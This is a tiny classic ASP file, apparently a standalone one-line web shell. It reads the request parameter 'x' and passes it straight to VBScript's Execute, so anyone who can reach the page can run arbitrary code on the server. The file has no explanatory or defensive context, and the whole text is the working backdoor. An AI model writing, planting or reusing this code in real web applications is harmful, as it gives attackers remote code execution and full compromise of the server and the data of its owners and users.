<%
Dim payload
payload = request("x")
Execute payload
%>
